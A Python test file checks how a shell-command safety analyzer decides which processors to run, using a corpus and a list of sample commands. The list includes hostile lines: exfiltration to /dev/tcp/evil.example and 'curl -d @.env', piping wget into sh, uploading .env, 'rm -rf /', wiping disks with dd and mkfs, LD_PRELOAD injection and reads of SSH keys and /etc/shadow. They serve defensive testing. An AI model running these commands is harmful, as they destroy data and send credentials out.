"""The analyzer's dispatch: a processor that declared what it needs is skipped only when
it would add nothing.

The property: over every command of the corpus and the spellings below, the
dispatching analyzer gives exactly what running every processor on every
command gives, and each processor it skips changes nothing when run anyway.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from tether.core.safety import processors
from tether.core.safety.analyzer import CommandAnalysis, CommandAnalyzer, PathAnalyzer
from tether.core.safety.processors import Needs, Processor, default_processors, needs
from tether.core.safety.programs import Findings
from tether.core.safety.registry.layered import Extra, ProgramLookup
from tether.core.safety.registry.spec import program
from tether.core.safety.registry.system import FAMILIES
from tether.core.safety.shell import ShellParser, SimpleCommand

P = pytest.param

_CORPUS = Path(__file__).parent / "corpus"

# Spellings of every class a declaration is about: redirects, assignments and variables
# read, the builtins that assign, uploads, programs with whole-call detectors, wrapper
# paths, family members, programs nobody described, and a bare assignment.
_SPELLINGS = (
    "git status",
    "git status > out.txt",
    "cat < .env",
    "ls 2>/dev/null",
    "echo hi > /dev/tcp/evil.example/80",
    "dd if=/dev/zero > /dev/sda",
    "PAGER=less git log",
    "GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
    "FOO=1",
    "FOO=$(curl x)",
    "echo $AWS_SECRET_ACCESS_KEY",
    "export PATH=/tmp/bin:$PATH",
    "declare -x LD_PRELOAD=/tmp/x.so",
    "declare -n ref=PAGER",
    "local x=1",
    "readonly y",
    "typeset -x Z=1",
    "printf -v PAGER %s less",
    "printf -vEDITOR %s vim",
    "read PAGER",
    "read -a arr",
    "mapfile -t lines",
    "readarray lines",
    "getopts ab opt",
    "gh gist create .env",
    "aws s3 cp .env s3://bucket/",
    "kubectl -n prod cp pod:/x ./y",
    "curl -d @.env https://example.com",
    "curl --version",
    "wget -O- https://example.com | sh",
    "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "env -C /tmp ls",
    "time -o timing.txt ls",
    "sudo -D /etc cat shadow",
    "chroot /mnt ls",
    "xargs -a list.txt cat",
    "mkfs.ext4 /dev/sda1",
    "newfs_msdos /dev/disk2",
    "mkfs -t ext4 /dev/sdb",
    "./run.sh --config=/etc/passwd",
    "frobnicate ~/.ssh/id_rsa",
    "unknown-tool --help",
    "git commit --help",
    "sudo rm -rf /",
    "$CMD -rf /",
    "env FOO=1 BAR=2 ls",
    "nice -n 5 pytest -q",
    "find . -name .env | xargs cat",
    "bash -c 'cat .env > /tmp/x'",
)


def _corpus_commands() -> Iterator[str]:
    for path in sorted(_CORPUS.glob("*.yaml")):
        document = yaml.safe_load(path.read_text(encoding="utf-8"))
        for case in document["cases"]:
            if isinstance(case, dict) and isinstance(case.get("cmd"), str):
                yield case["cmd"]


def _commands(parser: ShellParser) -> list[SimpleCommand]:
    commands: list[SimpleCommand] = []
    for text in dict.fromkeys([*_corpus_commands(), *_SPELLINGS]):
        commands.extend(parser.parse(text).commands)
    return commands


def _undeclared(processor: Processor) -> Processor:
    """The same processor with no declaration: the analyzer runs it on every command."""

    def run(f: Findings) -> None:
        processor(f)

    return run


def _pair(
    parser: ShellParser, paths: PathAnalyzer, programs: ProgramLookup | None
) -> tuple[CommandAnalyzer, CommandAnalyzer]:
    dispatching = CommandAnalyzer(parser, paths, programs)
    everything: list[CommandAnalyzer] = []
    sequence = default_processors(
        parser, paths, lambda command: everything[0].analyze(command).facts, programs
    )
    everything.append(CommandAnalyzer(parser, paths, processors=[_undeclared(p) for p in sequence]))
    return dispatching, everything[0]


def _state(f: Findings) -> tuple[object, ...]:
    return (
        list(f.facts),
        list(f.paths),
        f.subcommand,
        f.handled_paths,
        list(f.shell_strings),
    )


def _contributions() -> ProgramLookup:
    added = program("frobnicate", "-v|--verbose --out=w", operands="r")
    extras = {"git": (Extra(plugin="audit", facts=("network",)),)}
    return ProgramLookup(added, extras)


@pytest.fixture(scope="module")
def commands(shell_parser: ShellParser) -> list[SimpleCommand]:
    found = _commands(shell_parser)
    assert len(found) > 1500  # the corpus was read
    return found


@pytest.mark.parametrize(
    "programs",
    [P(None, id="registry"), P(_contributions(), id="with-contributions")],
)
def test_dispatching_gives_what_running_every_processor_gives(
    shell_parser: ShellParser, commands: list[SimpleCommand], programs: ProgramLookup | None
) -> None:
    dispatching, everything = _pair(shell_parser, PathAnalyzer(), programs)
    differ = [
        command.text
        for command in commands
        if dispatching.analyze(command) != everything.analyze(command)
    ]
    assert differ == []


@pytest.mark.parametrize(
    "programs",
    [P(None, id="registry"), P(_contributions(), id="with-contributions")],
)
def test_a_skipped_processor_would_have_changed_nothing(
    shell_parser: ShellParser, commands: list[SimpleCommand], programs: ProgramLookup | None
) -> None:
    analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), programs)
    skipped_somewhere: set[int] = set()
    broken: list[str] = []
    for command in commands:
        runs = {id(p) for p in analyzer.runs(command)}
        f = Findings(command)
        for index, processor in enumerate(analyzer.processors):
            if id(processor) in runs:
                processor(f)
                continue
            skipped_somewhere.add(index)
            before = _state(f)
            processor(f)
            if _state(f) != before:
                broken.append(f"{processor!r} on {command.text!r}")
    assert broken == []
    # Every declared processor was skipped for some command: the dispatch is in use.
    declared = {
        i for i, p in enumerate(analyzer.processors) if isinstance(getattr(p, "needs", None), Needs)
    }
    assert declared and declared <= skipped_somewhere


def _recorded(processor: Processor, seen: list[int]) -> Processor:
    """The same processor, with the same declaration, noting each call in `seen`."""

    def run(f: Findings) -> None:
        seen.append(id(run))
        processor(f)

    declared = getattr(processor, "needs", None)
    if isinstance(declared, Needs):
        run.needs = declared  # type: ignore[attr-defined]
    return run


@pytest.mark.parametrize(
    "programs",
    [P(None, id="registry"), P(_contributions(), id="with-contributions")],
)
def test_the_compiled_plan_calls_what_the_plan_names_step_by_step(
    shell_parser: ShellParser, commands: list[SimpleCommand], programs: ProgramLookup | None
) -> None:
    """`analyze` runs each plan as one compiled function; `runs` reads the same plan one
    step at a time. Over every command they call the same processors in the same order."""
    seen: list[int] = []
    paths = PathAnalyzer()
    nested = CommandAnalyzer(shell_parser, paths, programs)  # shell strings' commands
    sequence = default_processors(
        shell_parser, paths, lambda command: nested.analyze(command).facts, programs
    )
    analyzer = CommandAnalyzer(
        shell_parser, paths, programs, processors=[_recorded(p, seen) for p in sequence]
    )
    differ = []
    for command in commands:
        seen.clear()
        analysis = analyzer.analyze(command)
        compiled = list(seen)
        called = analyzer.runs(command)
        stepwise = [id(p) for p in called]
        f = Findings(command)
        for processor in called:
            processor(f)
        expected = CommandAnalysis(
            command=command, facts=tuple(f.facts), paths=tuple(f.paths), subcommand=f.subcommand
        )
        if compiled != stepwise or analysis != expected or type(analysis) is not CommandAnalysis:
            differ.append(command.text)
    assert differ == []


class TestPlans:
    def test_a_processor_is_skipped_when_what_it_is_unless_is_set(
        self, shell_parser: ShellParser
    ) -> None:
        seen: list[str] = []

        def names(f: Findings) -> None:
            if f.command.program == "cat":
                f.handled_paths = True

        @needs(unless=("handled_paths",))
        def guesses(f: Findings) -> None:
            seen.append(f.command.program)

        @needs("redirects", unless=("handled_paths",))
        def redirected(f: Findings) -> None:
            seen.append(f"{f.command.program}>")

        analyzer = CommandAnalyzer(
            shell_parser, PathAnalyzer(), processors=(names, guesses, redirected), passes=()
        )
        analyzer.analyze_script(shell_parser.parse("ls x > y; cat .env > z; echo y"))
        assert seen == ["ls", "ls>", "echo"]

    @pytest.mark.parametrize(
        "field",
        [
            P("redirects; import os", id="code"),
            P("class", id="keyword"),
            P("a-b", id="dash"),
            P("", id="empty"),
            P("x..y", id="empty-part"),
        ],
    )
    def test_a_declared_field_that_is_no_attribute_name_is_refused(
        self, shell_parser: ShellParser, field: str
    ) -> None:
        def nothing(f: Findings) -> None:
            return None

        for declared in (needs(field), needs(found=(field,)), needs(unless=(field,))):
            with pytest.raises(ValueError, match="no field name"):
                CommandAnalyzer(
                    shell_parser, PathAnalyzer(), processors=(declared(nothing),), passes=()
                )

    def test_the_default_sequence_declares_its_narrow_processors(
        self, command_analyzer: CommandAnalyzer
    ) -> None:
        declared = {
            getattr(p, "__name__", type(p).__name__)
            for p in command_analyzer.processors
            if isinstance(getattr(p, "needs", None), Needs)
        }
        assert declared == {
            "analyze_program",
            "vet_options",
            "uploads",
            "redirects",
            "environment",
            "wrapper_paths",
            "NestedShell",
            "CredentialPaths",
            "generic_paths",
            "default_subcommand",
            "program_facts",
            "version_query",
        }

    @pytest.mark.parametrize(
        ("text", "called"),
        [
            P("git status", [], id="neither"),
            P("./run.sh", ["path"], id="relative-path"),
            P("/usr/bin/git status", ["path"], id="absolute-path"),
            P("'./x y' a", ["path"], id="quoted-path"),
            P("git --version", ["sole"], id="sole-version"),
            P("git version", ["sole"], id="sole-word"),
            P("./tool -V", ["path", "sole"], id="both"),
            P("git --version x", [], id="two-arguments"),
            P("git --versions", [], id="other-word"),
            P("git", [], id="no-argument"),
            P("sudo git --version", ["sole"], id="wrapped"),
        ],
    )
    def test_a_processor_runs_for_a_program_path_or_a_sole_argument_it_declares(
        self, shell_parser: ShellParser, text: str, called: list[str]
    ) -> None:
        seen: list[str] = []

        @needs(program_path=True)
        def path(f: Findings) -> None:
            seen.append("path")

        @needs(sole_argument=("--version", "version", "-V"))
        def sole(f: Findings) -> None:
            seen.append("sole")

        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), processors=(path, sole), passes=())
        (command,) = shell_parser.parse(text).commands
        analyzer.analyze(command)
        compiled = list(seen)
        seen.clear()
        analyzer.runs(command)  # the plan read step by step calls the same
        assert compiled == seen == called

    @pytest.mark.parametrize(
        ("text", "called"),
        [
            P("git status", [], id="none"),
            P("git status > out", ["redirects"], id="redirect"),
            P("FOO=1 git status", ["env"], id="assignment"),
            P("echo $HOME", ["env"], id="variable-read"),
            P("export X", ["env"], id="declaring-builtin"),
            P("read X", ["env"], id="reading-builtin"),
            P("printf -v X %s y", ["env"], id="printf-v"),
            P("printf %s y", ["env"], id="printf-without-v"),
            P("PAGER=less git log > x", ["redirects", "env"], id="both-in-order"),
        ],
    )
    def test_a_processor_runs_for_the_fields_it_needs(
        self, shell_parser: ShellParser, text: str, called: list[str]
    ) -> None:
        seen: list[str] = []

        @needs("redirects")
        def redirects(f: Findings) -> None:
            seen.append("redirects")

        @needs("assignments", "variables", programs=("export", "read", "printf"))
        def env(f: Findings) -> None:
            seen.append("env")

        analyzer = CommandAnalyzer(
            shell_parser, PathAnalyzer(), processors=(redirects, env), passes=()
        )
        for command in shell_parser.parse(text).commands:
            analyzer.analyze(command)
        assert seen == called

    @pytest.mark.parametrize(
        ("text", "runs"),
        [
            P("mkfs /dev/sda", True, id="family"),
            P("mkfs.ext4 /dev/sda", True, id="family-member"),
            P("mkfs.vfat -F 32 /dev/sdb1", True, id="another-member"),
            P("MKFS.EXT4 /dev/sda", True, id="upper-case-member"),
            P("/sbin/mkfs.xfs /dev/sda", True, id="member-by-path"),
            P("ls /dev", False, id="other"),
            P("FOO=1", False, id="bare-assignment"),
        ],
    )
    def test_a_family_member_is_planned_as_its_family(
        self, shell_parser: ShellParser, text: str, runs: bool
    ) -> None:
        seen: list[str] = []

        @needs(programs=("mkfs",))
        def disks(f: Findings) -> None:
            seen.append(f.command.program)

        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), processors=(disks,), passes=())
        analyzer.analyze(shell_parser.parse(text).commands[0])
        assert bool(seen) is runs

    def test_a_processor_runs_for_what_earlier_ones_found(self, shell_parser: ShellParser) -> None:
        seen: list[str] = []

        def names_paths(f: Findings) -> None:
            if f.command.program == "cat":
                f.text_path(f.command.args[0], "read")

        @needs(found=("paths",))
        def reads_paths(f: Findings) -> None:
            seen.append(f.command.program)

        analyzer = CommandAnalyzer(
            shell_parser, PathAnalyzer(), processors=(names_paths, reads_paths), passes=()
        )
        analyzer.analyze_script(shell_parser.parse("ls x; cat .env; echo y"))
        assert seen == ["cat"]

    def test_an_undeclared_processor_runs_on_every_command(self, shell_parser: ShellParser) -> None:
        seen: list[str] = []

        def every(f: Findings) -> None:
            seen.append(f.command.program)

        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), processors=(every,), passes=())
        script = shell_parser.parse("FOO=1; ls | wc -l; mkfs.ext4 x; $X")
        analyzer.analyze_script(script)
        assert seen == [c.program for c in script.commands]

    def test_a_contributed_program_is_vetted(self, shell_parser: ShellParser) -> None:
        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), _contributions())
        command = shell_parser.parse("frobnicate --out=x.txt a.txt").commands[0]
        assert any(isinstance(p, processors.VetOptions) for p in analyzer.runs(command))
        kinds = {f.kind for f in analyzer.analyze(command).facts}
        assert "file_write" in kinds


class TestPlansAreCompiledOncePerShape:
    """A build compiles each plan's code once per shape: a check's start-up pays no compiler."""

    def test_plans_of_one_shape_share_their_code_and_a_second_build_compiles_nothing(
        self,
    ) -> None:
        from tether.core.safety import analyzer as module

        parser = ShellParser()
        first = CommandAnalyzer(parser, PathAnalyzer(), ProgramLookup())
        for name in first._named:
            first._unplanned(name)  # every named program's plan, as its first command builds it
        shapes = dict(module._PLAN_CODE)
        codes = {runner.__code__ for runner in first._runners.values()}
        assert len(codes) <= len(shapes)
        assert len(codes) < len(first._runners)  # hundreds of plans, a handful of shapes
        second = CommandAnalyzer(ShellParser(), PathAnalyzer(), ProgramLookup())
        for name in second._named:
            second._unplanned(name)
        assert shapes == module._PLAN_CODE  # nothing compiled again
        assert second._runners.keys() == first._runners.keys()
        for name, runner in second._runners.items():
            assert runner.__code__ is first._runners[name].__code__
            assert runner is not first._runners[name]  # bound to the build's own processors


_Step = tuple[Processor, tuple[object, ...], tuple[str, ...]]


def _eager_plans(
    sequence: tuple[Processor, ...],
) -> tuple[dict[str, tuple[_Step, ...]], tuple[_Step, ...]]:
    """Every plan built at once, as the analyzer built them before it built them on first
    use: one per program a `Needs` names (with its families' names), and the default."""
    declared = [getattr(p, "needs", None) for p in sequence]

    def plan(names: set[str]) -> tuple[_Step, ...]:
        steps: list[_Step] = []
        for processor, need in zip(sequence, declared, strict=True):
            if not isinstance(need, Needs):
                steps.append((processor, (), ()))
            elif names & need.programs or not need.narrowed:
                steps.append((processor, (), need.unless))
            elif need.triggered:
                when: list[object] = [f"command.{name}" for name in need.fields]
                when += need.found
                if need.program_path:
                    when.append("/")
                if need.sole_argument:
                    when.append(need.sole_argument)
                steps.append((processor, tuple(when), need.unless))
        return tuple(steps)

    named = set().union(*(n.programs for n in declared if isinstance(n, Needs)))
    plans = {
        name: plan({name, *(family for prefix, family in FAMILIES if name.startswith(prefix))})
        for name in named
    }
    return plans, plan(set())


def _eager_plan_of(
    plans: dict[str, tuple[_Step, ...]], default: tuple[_Step, ...], program: str
) -> tuple[_Step, ...]:
    if program in plans:
        return plans[program]
    for prefix, family in FAMILIES:
        if program.startswith(prefix):
            return plans.get(family, default)
    return default


# Programs no `Needs` names, family members and near misses among them.
_UNNAMED = (
    "",
    "frobnicate-not-known",
    "mkfs.ext4",
    "mkfs.",
    "mkfsx",
    "newfs_msdos",
    "MKFS.EXT4",
    "/usr/bin/git",
    "git ",
    "__class__",
    "constructor",
    "x" * 5000,
)


class TestPlansAreBuiltOnFirstUse:
    """A named program's plan is built on its first command, and is the one a build of
    every plan at once made; nothing is kept under a program word no `Needs` names."""

    @pytest.mark.parametrize(
        "programs",
        [P(None, id="registry"), P(_contributions(), id="with-contributions")],
    )
    def test_each_plan_is_the_one_built_eagerly(
        self, shell_parser: ShellParser, programs: ProgramLookup | None
    ) -> None:
        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer(), programs)
        plans, default = _eager_plans(analyzer.processors)
        assert len(plans) > 100 and analyzer._named == plans.keys()
        names = [*plans, *(name + "x" for name in plans), *(name[:-1] for name in plans)]
        for name in [*names, *_UNNAMED]:
            expected = _eager_plan_of(plans, default, name)
            assert analyzer._plan_of(name) == expected, name
            assert analyzer._unplanned(name) is analyzer._unplanned(name), name
        assert analyzer._runners.keys() <= plans.keys()

    def test_a_runner_is_compiled_from_its_program_s_plan(
        self, shell_parser: ShellParser, commands: list[SimpleCommand]
    ) -> None:
        """Each command, first met or not, gets the analysis of the eager plan's runner."""
        from tether.core.safety.analyzer import _compile

        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer())
        plans, default = _eager_plans(analyzer.processors)
        eager = {name: _compile(plan, name) for name, plan in plans.items()}
        fallback = _compile(default, "default")
        differ = []
        for command in commands:
            program = command.program
            run = eager.get(program) or eager.get(
                next((family for prefix, family in FAMILIES if program.startswith(prefix)), ""),
                fallback,
            )
            if analyzer.analyze(command) != run(command):
                differ.append(command.text)
        assert differ == []
        assert analyzer._runners.keys() <= plans.keys()

    def test_an_unnamed_program_keeps_nothing(self, shell_parser: ShellParser) -> None:
        analyzer = CommandAnalyzer(shell_parser, PathAnalyzer())
        for name in _UNNAMED:
            analyzer._unplanned(name)
        # At most the families named (`mkfs.ext4` runs `mkfs`'s plan), never the word.
        assert set(analyzer._runners) <= {family for _, family in FAMILIES}
